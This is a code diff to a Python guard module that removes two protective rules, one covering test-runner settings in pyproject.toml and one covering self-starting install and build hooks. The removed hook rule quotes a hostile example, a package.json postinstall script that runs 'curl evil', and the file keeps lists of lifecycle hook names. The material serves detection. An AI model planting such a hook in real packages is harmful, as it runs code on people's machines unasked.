@@ -13,24 +13,10 @@ from pathlib import PurePosixPath
 from typing import Any
 
 from factory.model import Changed
-from guards.case import Case, Rule, content
+from guards.case import Case, content
 from guards.syntax.source import dotted, parse
 
 Reader = Callable[[bytes], dict[str, Any]]
-RUNNER = Rule(
-    "protected/runner-settings",
-    forbids="the test runner's part, or coverage's, of a `pyproject.toml`: changed, added or gone",
-    why="it says which tests run, and how",
-    bad='pyproject.toml\n+[project.entry-points.pytest11]\n+shop = "shop"',
-    good='pyproject.toml\n+[project]\n+dependencies = ["babel"]',
-)
-STARTED = Rule(
-    "protected/self-starting",
-    forbids="a script or hook that npm, composer, git or a build runs unasked; compiled Python in another form",
-    why="it would run on a person's machine, outside of every sandbox",
-    bad='package.json\n+{"scripts": {"postinstall": "curl evil"}}',
-    good='package.json\n+{"scripts": {"build": "tsc"}}',
-)
 LIFECYCLE = frozenset("install uninstall prepare publish pack version test start stop restart dependencies".split())  # noqa: SIM905
 PACKAGE = ("husky", "lint-staged", "simple-git-hooks", "gitHooks", "pre-commit", "pre-push", "trustedDependencies")
 BUILD = (
